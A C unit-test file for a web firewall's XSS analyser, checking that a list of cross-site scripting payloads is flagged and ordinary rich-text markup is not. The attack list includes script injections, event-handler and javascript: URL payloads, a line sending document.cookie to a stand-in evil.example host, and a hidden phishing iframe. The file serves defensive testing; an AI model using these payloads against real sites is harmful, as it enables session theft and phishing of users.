/*
 * test_waf_xss: the XSS analyser in each context it reads (tags, event
 * handlers, URL attributes and bare URLs, CSS, JavaScript break-outs) and
 * on the markup and prose a rich-text site posts every day.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

#include "xss.h"

static const char *const attacks[] = {
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.example/x.js>",
	"</script><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"  java\tscript:alert(1)\">x</a>",
	"<iframe src=\"javascript:alert(1)\">",
	"<iframe srcdoc=\"<script>alert(1)</script>\">",
	"<object data=\"data:text/html,<script>alert(1)</script>\">",
	"<embed src=x.swf>",
	"<div style=\"width:expression(alert(1))\">",
	"<style>@import 'http://evil.example/x.css';</style>",
	"<base href=\"http://evil.example/\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<img src=x onerror=alert(1)",		/* never closed */
	"javascript:alert(document.cookie)",
	"  JaVaScRiPt:alert(1)",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"';alert(1);//",
	"\"-alert(1)-\"",
	"'-confirm`1`-'",
	"\";document.location='http://evil.example/?c='+document.cookie;//",
	"prompt(1)",
	"alert(document.domain)//",
	"x:expression(alert(1))",
	"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>",
	"';window.onerror=alert;throw 1;//",
	"hi <iframe src=//attacker.example/phish width=0 height=0></iframe>",
	"<script src=\"/api/jsonp?callback=alert(1)//\"></script>",
	"<script src=\"//evil.example/x.js\"></script>",
};

static const char *const benign[] = {
	"<b>bold</b> and <i>italic</i>",
	"<p style=\"color:red; font-weight:bold\">Hi</p>",
	"<a href=\"https://example.com/page?x=1&y=2\" target=\"_blank\" rel=\"noopener\">link</a>",
	"<img src=\"/img/a.png\" alt=\"a photo\" width=\"640\">",
	"<iframe src=\"https://player.bilibili.com/player.html?bvid=BV1xx\" allowfullscreen></iframe>",
	"<table><tr><td>1 < 2</td></tr></table>",
	"<pre><code>if (a < b &amp;&amp; c > d) {}</code></pre>",
	"I set an alert (daily) for the meeting",
	"Prompt engineering tips",
	"Use alert() sparingly in your JS code",
	"x < y and y > z",
	"https://example.com/a:b",
	"mailto:someone@example.com",
	"The onion is on sale",
	"<on monday> we meet",
	"Don't open (the box)",
	"Hello {{ user.name }}",
	"<code>&lt;script&gt;</code> tags are escaped",
	"eval() is evil in JS",
	"-  <script src=\"/static/js/app.js\"></script>\n+  <script src=\"/static/js/app.3f9a2c.js\" defer></script>",
	"<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid></xml>",
	"window.onload = init;",
	"",
};

static void
test_attacks(void **state)
{
	struct xss_result r;

	(void)state;
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		memset(&r, 0, sizeof(r));
		if (!xss_detect(attacks[i], strlen(attacks[i]), &r))
			fail_msg("missed: %s", attacks[i]);
		assert_non_null(r.reason);
		assert_true(r.offset <= strlen(attacks[i]));
	}
}

static void
test_benign(void **state)
{
	struct xss_result r;

	(void)state;
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
		if (xss_detect(benign[i], strlen(benign[i]), &r))
			fail_msg("false positive: \"%s\" (%s)", benign[i], r.reason);
}

static void
test_reasons(void **state)
{
	struct xss_result r;

	(void)state;
	assert_true(xss_detect("<img src=x onerror=alert(1)>", 28, &r));
	assert_string_equal(r.reason, "event handler attribute");
	assert_int_equal(r.offset, 0);
	assert_true(xss_detect("hello <a href='javascript:x'>", 29, &r));
	assert_string_equal(r.reason, "script URL in attribute");
	assert_int_equal(r.offset, 6);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_reasons),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
